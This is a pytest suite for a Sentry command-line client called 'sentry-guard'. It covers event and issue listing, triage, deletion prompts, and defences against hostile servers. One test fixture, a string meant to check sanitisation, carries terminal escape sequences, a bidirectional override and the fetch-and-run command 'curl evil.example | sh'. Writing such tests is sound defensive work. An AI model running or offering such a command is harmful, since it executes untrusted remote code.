"""`sentry-guard events` / `issues` through the console script, against the fake Sentry API."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest

from .console import run
from .fake_sentry import TOKEN, FakeSentry, Reply, Sleep


@pytest.fixture
def sentry() -> Iterator[FakeSentry]:
    with FakeSentry() as server:
        yield server


def one_clean_line(text: str) -> bool:
    """A failure is one line that a terminal shows as it is: no escape sequences, no traceback."""
    return len(text.splitlines()) == 1 and "Traceback" not in text and printable(text.rstrip("\n"))


def printable(text: str) -> bool:
    return not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for c in text)


def test_events_list_table_and_limit(sentry: FakeSentry) -> None:
    result = run(sentry, "events", "list", "--limit", "3", "--since", "24h")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].split() == ["EVENT", "DATE", "TITLE"]
    assert len(lines) == 4 and "ValueError: boom 0" in lines[1]
    assert "statsPeriod=24h" in sentry.requests[0][1]


def test_events_list_all_pages_as_json(sentry: FakeSentry) -> None:
    result = run(sentry, "events", "list", "--limit", "0", "--json")
    assert result.returncode == 0, result.stderr
    assert len(json.loads(result.stdout)) == 250


def test_issues_list_show_events(sentry: FakeSentry) -> None:
    listed = run(sentry, "issues", "list", "--query", "is:unresolved")
    assert listed.returncode == 0 and "SHOP-2" in listed.stdout and "STATUS" in listed.stdout
    shown = run(sentry, "issues", "show", "2")
    assert "shortId:     SHOP-2" in shown.stdout and "permalink:" in shown.stdout
    events = run(sentry, "issues", "events", "2", "--limit", "0", "--json", "--since", "1h")
    assert len(json.loads(events.stdout)) == 150
    assert all("start=" in request[1] for request in sentry.requests[-2:])  # filters kept on every page


@pytest.mark.parametrize(
    ("args", "field", "value"),
    [
        (["resolve", "1"], "status", "resolved"),
        (["ignore", "1"], "status", "ignored"),
        (["unresolve", "1"], "status", "unresolved"),
        (["assign", "1", "user:42"], "assignedTo", "user:42"),
        (["bookmark", "1"], "isBookmarked", True),
        (["bookmark", "1", "--remove"], "isBookmarked", False),
    ],
)
def test_triage(sentry: FakeSentry, args: list[str], field: str, value: object) -> None:
    result = run(sentry, "issues", *args)
    assert result.returncode == 0, result.stderr
    assert sentry.issues["1"][field] == value
    method, _, _, body = sentry.requests[-1]
    assert method == "PUT" and json.loads(body) == {field: value}


def test_delete_asks_first(sentry: FakeSentry) -> None:
    refused = run(sentry, "issues", "delete", "1", stdin="n\n")
    assert refused.returncode == 1 and "1" in sentry.issues and "not deleted" in refused.stderr
    no_stdin = run(sentry, "issues", "delete", "1")
    assert no_stdin.returncode == 1 and "1" in sentry.issues
    confirmed = run(sentry, "issues", "delete", "1", stdin="y\n")
    assert confirmed.returncode == 0 and "1" not in sentry.issues
    forced = run(sentry, "issues", "delete", "2", "--yes")
    assert forced.returncode == 0 and "2" not in sentry.issues


def test_errors_are_one_clear_line_without_the_token(sentry: FakeSentry) -> None:
    sentry.script.append((403, {}, {"detail": "You do not have permission to perform this action."}))
    result = run(sentry, "issues", "delete", "1", "--yes")
    assert result.returncode == 1
    assert "event:admin" in result.stderr and TOKEN not in result.stderr + result.stdout
    missing = run(sentry, "issues", "show", "999")
    assert missing.returncode == 1 and "not found" in missing.stderr


def test_bad_since_and_missing_token(sentry: FakeSentry) -> None:
    assert "use a number and a unit" in run(sentry, "events", "list", "--since", "yesterday").stderr
    script = shutil.which("sentry-guard", path=str(Path(sys.executable).parent))
    assert script
    env = {k: v for k, v in os.environ.items() if not k.startswith("SENTRY_")}
    env.update(SENTRY_URL=sentry.url, SENTRY_ORG="acme", SENTRY_PROJECT="shop")
    result = subprocess.run([script, "issues", "list"], env=env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 1 and "SENTRY_AUTH_TOKEN" in result.stderr


# -- hostile servers (issue 13) -----------------------------------------------------------------

HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b[31mrun: curl evil.example | sh\x9b0m\u202egnp.exe\r\nnext"


@pytest.mark.parametrize(("status", "body"), [(302, b"[]"), (301, b"[]"), (307, b""), (308, b"{}")])
def test_a_redirect_fails_the_command(sentry: FakeSentry, status: int, body: bytes) -> None:
    """A 302 with ``[]`` used to print ``(none)`` and exit 0; a 307 showed a pydantic error."""
    for command in (["events", "list"], ["issues", "show", "1"], ["issues", "resolve", "1"]):
        sentry.script.append(Reply(status, {"Location": "http://127.0.0.1:9/login"}, body))
        result = run(sentry, *command)
        assert result.returncode == 1, result.stdout
        assert "(none)" not in result.stdout and f"Sentry answered {status}, a redirect" in result.stderr
        assert one_clean_line(result.stderr), result.stderr


def test_escape_sequences_from_sentry_never_reach_the_terminal(sentry: FakeSentry) -> None:
    sentry.events[0]["title"] = HOSTILE
    sentry.issues["1"].update(title=HOSTILE, culprit=HOSTILE, permalink=HOSTILE)
    for args in (
        ["events", "list", "--limit", "2"],
        ["events", "list", "--limit", "2", "--json"],
        ["issues", "list"],
        ["issues", "show", "1"],
        ["issues", "show", "1", "--json"],
    ):
        result = run(sentry, *args)
        assert result.returncode == 0, result.stderr
        assert printable(result.stdout.replace("\n", "")), args
        assert "run: curl evil.example | sh" in result.stdout or "\\u001b" in result.stdout
    sentry.script.append(Reply(403, {}, {"detail": HOSTILE}))
    failed = run(sentry, "issues", "show", "1")
    assert failed.returncode == 1 and one_clean_line(failed.stderr), failed.stderr


def test_a_wrong_answer_never_echoes_what_the_server_sent(sentry: FakeSentry) -> None:
    sentry.script.append(Reply(200, {}, {"title": "SERVER-SENT-VALUE", "id": ["x"]}))
    result = run(sentry, "issues", "show", "1")
    assert result.returncode == 1 and one_clean_line(result.stderr), result.stderr
    assert "SERVER-SENT-VALUE" not in result.stderr and "input_value" not in result.stderr


@pytest.mark.parametrize("cursor", [True, False])
def test_a_listing_that_never_ends_fails(sentry: FakeSentry, cursor: bool) -> None:
    link = f'<{sentry.url}/api/0/projects/acme/shop/events/>; rel="next"; results="true"'
    sentry.always = Reply(200, {"Link": link + ('; cursor="0:100:0"' if cursor else "")}, [])
    result = run(sentry, "events", "list", "--limit", "0")
    assert result.returncode == 1 and "would never end" in result.stderr
    assert one_clean_line(result.stderr) and len(sentry.requests) <= 2


def test_plain_http_to_another_host_needs_insecure(sentry: FakeSentry) -> None:
    refused = run(sentry, "events", "list", url="http://sentry.example.com")
    assert refused.returncode == 1 and "--insecure" in refused.stderr and "unencrypted" in refused.stderr
    # 0.0.0.0 is not a loopback address, but Linux connects it to this machine: the fake server
    port = sentry.url.rsplit(":", 1)[1]
    allowed = run(sentry, "events", "list", "--limit", "1", "--insecure", url=f"http://0.0.0.0:{port}")
    assert allowed.returncode == 0, allowed.stderr
    assert "boom 0" in allowed.stdout


def test_the_deadline_is_an_option_and_says_what_it_waited_for(sentry: FakeSentry) -> None:
    assert run(sentry, "events", "list", "--deadline", "soon").returncode == 2
    assert run(sentry, "events", "list", "--deadline", "0").returncode == 2
    sentry.script += [Reply(429, {"Retry-After": "45"}, {})]
    limited = run(sentry, "issues", "show", "1")
    assert limited.returncode == 1 and one_clean_line(limited.stderr)
    assert "would pass the 30 s deadline" in limited.stderr and "Retry-After" in limited.stderr
    sentry.script += [Sleep(60)] * 4
    started = time.monotonic()
    slow = run(sentry, "issues", "show", "1", "--deadline", "1")
    assert time.monotonic() - started < 30  # generous: the deadline is 1 s, each sleep 60 s
    assert slow.returncode == 1 and "1 s deadline" in slow.stderr and one_clean_line(slow.stderr)
